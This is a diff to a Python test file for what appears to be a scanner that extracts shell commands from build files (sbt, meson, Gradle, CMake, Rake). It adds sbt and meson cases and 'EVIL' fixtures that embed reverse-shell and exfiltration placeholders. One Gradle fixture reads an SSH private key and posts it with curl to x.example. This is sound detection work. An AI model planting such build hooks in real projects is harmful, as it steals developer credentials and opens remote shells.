@@ -39,6 +39,11 @@ def test_recipes_and_scripts_are_read_per_build_system():
     assert build_commands("build.gradle", "exec { commandLine 'sh', '-c', 'ls -l' }") == [("commandLine", "sh -c 'ls -l'")]
     assert build_commands("CMakeLists.txt", 'execute_process(COMMAND sh -c "ls" WORKING_DIRECTORY x)') == [
         ("COMMAND", "sh -c ls")]
+    assert build_commands("build.sbt", 'val v = "git describe".!!\nval p = ("ls" #| "grep x").!\n'
+                                       'val q = Process(Seq("sh", "-c", "id")).!\nname := "app"\n') == [
+        ("sys.process", "git describe"), ("sys.process", "ls"), ("sys.process", "sh -c id"), ("sys.process", "grep x")]
+    assert build_commands("meson.build", "r = run_command('git', 'rev-parse', 'HEAD', check: true)\n") == [
+        ("run_command", "git rev-parse HEAD")]
     assert build_commands("src/main.py", "build:\n\tls\n") == []
     assert build_commands("package.json", "{not json") == []
 
@@ -54,6 +59,9 @@ EVIL = [
     ("Rakefile", f'task :default do\n  sh "{RSHELL}"\nend\n'),
     ("build.gradle", f"task x {{ doLast {{ exec {{ commandLine 'bash', '-c', '{RSHELL}' }} }} }}\n"),
     ("CMakeLists.txt", f'execute_process(COMMAND bash -c "{RSHELL}")\n'),
+    ("build.sbt", f'import sys.process._\nval x = "{EXFIL}".!\n'),
+    ("project/plugins.sbt", f'val x = Seq("bash", "-c", "{RSHELL}").!\n'),
+    ("meson.build", f"project('x', 'c')\nrun_command('sh', '-c', '{EXFIL}', check: false)\n"),
     ("settings.gradle", f"['bash', '-c', '{RSHELL}'].execute()\n"),  # Groovy's List.execute()
     ("build.gradle", f'"cat /home/dev/.ssh/id_rsa".execute().text.with {{ k -> "curl -d @- https://x.example".execute() }}\n'
                      f'"{EXFIL}".execute()\n'),
